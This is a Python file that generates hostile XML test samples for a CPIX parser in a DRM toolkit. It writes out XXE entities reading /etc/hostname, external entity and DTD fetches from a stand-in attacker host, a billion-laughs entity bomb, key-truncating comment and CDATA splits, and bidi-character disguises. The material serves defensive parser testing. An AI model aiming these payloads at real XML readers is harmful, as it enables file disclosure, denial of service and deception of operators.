"""The attack samples: documents made to read files, to exhaust memory, to truncate values or to deceive a person."""

from __future__ import annotations

import base64
from collections.abc import Iterator

from drmkit import cpix
from drmkit.cpix import Builder
from samples.model import Sample, finish, key, kid, require

__all__ = ["samples"]

_FROM_23 = ("2.3", "2.3.1", "2.4")
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def samples() -> Iterator[Sample]:
    """Return the attacks on XML readers; those on signatures are in `sealed`."""
    for name, shows, doctype, value in _REFUSED:
        yield Sample(
            path=f"attacks/{name}.xml",
            shows=shows,
            make=lambda d=doctype, v=value: (_HEAD + d + "\n" + _document(v)).encode(),
            accepts=(),
            version=None,
            rules=("xml-doctype",),
            valid=False,
        )
    yield Sample(
        path="attacks/xxe-utf-16.xml",
        shows="an external entity behind an encoding that a byte search does not see",
        make=lambda: (
            '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'
            + _document("&x;")
        ).encode("utf-16"),
        accepts=(),
        version=None,
        rules=("xml-doctype",),
        valid=False,
    )
    for name, shows, value in _READ:
        yield Sample(
            path=f"attacks/{name}.xml",
            shows=shows,
            make=lambda v=value: (_HEAD + _document(v)).encode(),
            accepts=_FROM_23,
            version="2.4",
            proof=_whole,
        )
    yield Sample(
        path="attacks/schema-location.xml",
        shows="xsi:schemaLocation, xml-stylesheet and XInclude that point to another server: nothing follows them",
        make=_located,
        accepts=_FROM_23,
        version="2.4",
        proof=_whole,
    )
    yield Sample(
        path="attacks/terminal.xml",
        shows="direction marks and control characters in names, which would disguise them on a screen",
        make=_disguised,
        accepts=_FROM_23,
        version="2.4",
    )


def _document(value: str) -> str:
    return (
        '<CPIX xmlns="urn:dashif:org:cpix" xmlns:pskc="urn:ietf:params:xml:ns:keyprov:pskc" version="2.4">\n'
        f'  <ContentKeyList>\n    <ContentKey kid="{kid("one")}">\n      <Data><pskc:Secret>'
        f"<pskc:PlainValue>{value}</pskc:PlainValue></pskc:Secret></Data>\n    </ContentKey>\n  </ContentKeyList>\n"
        "</CPIX>\n"
    )


def _whole(data: bytes) -> None:
    value = cpix.parse(data).content_keys[0].key
    require(value is not None and value.reveal() == key("one"), "another key is read")


_VALUE = base64.b64encode(key("one")).decode()
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_REFUSED = (
    (
        "xxe-file",
        "an external entity that reads a file into the content key",
        '<!DOCTYPE CPIX [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        "&x;",
    ),
    (
        "xxe-network",
        "an external entity that calls another server",
        '<!DOCTYPE CPIX [<!ENTITY x SYSTEM "http://attacker.example/x">]>',
        "&x;",
    ),
    (
        "xxe-parameter",
        "a parameter entity that loads more declarations",
        '<!DOCTYPE CPIX [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>',
        _VALUE,
    ),
    ("external-dtd", "an external DTD", '<!DOCTYPE CPIX SYSTEM "http://attacker.example/cpix.dtd">', _VALUE),
    (
        "entity-bomb",
        "entities that expand to ten billion characters",
        f'<!DOCTYPE CPIX [<!ENTITY l0 "lol">{_LAUGHS}]>',
        "&l9;",
    ),
    (
        "entity-quadratic",
        "one long entity, many times",
        f'<!DOCTYPE CPIX [<!ENTITY q "{"q" * 2000}">]>',
        "&q;" * 2000,
    ),
    ("entity-internal", "an entity that hides the content key", f'<!DOCTYPE CPIX [<!ENTITY k "{_VALUE}">]>', "&k;"),
)
_HALF = len(_VALUE) // 2
_READ = (
    (
        "comment-in-key",
        "a comment inside a content key: readers that stop at it see half a key",
        f"{_VALUE[:_HALF]}<!-- stop here -->{_VALUE[_HALF:]}",
    ),
    (
        "instruction-in-key",
        "a processing instruction inside a content key",
        f"{_VALUE[:4]}<?stop here?>{_VALUE[4:]}",
    ),
    (
        "cdata-in-key",
        "a content key in two CDATA sections",
        f"<![CDATA[{_VALUE[:_HALF]}]]><![CDATA[{_VALUE[_HALF:]}]]>",
    ),
    ("references-in-key", "a content key in character references", "".join(f"&#{ord(c)};" for c in _VALUE)),
)


def _located() -> bytes:
    text = _document(f'{_VALUE}<!-- <xi:include href="http://attacker.example/"/> -->')
    text = text.replace(
        ' version="2.4">',
        ' version="2.4"\n      xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"\n'
        '      xsi:schemaLocation="urn:dashif:org:cpix http://attacker.example/cpix.xsd">',
        1,
    )
    return (_HEAD + '<?xml-stylesheet href="http://attacker.example/x.xsl" type="text/xsl"?>\n' + text).encode()


def _disguised() -> bytes:
    builder = Builder(version="2.4", content_id="\u202emovie\u202c", name="name\u009b31m")
    builder.content_key(kid=kid("one"), key=key("one"))
    builder.usage_rule(kid=kid("one"), intended_track_type="\u2066HD\u2069")
    return finish(builder.build())
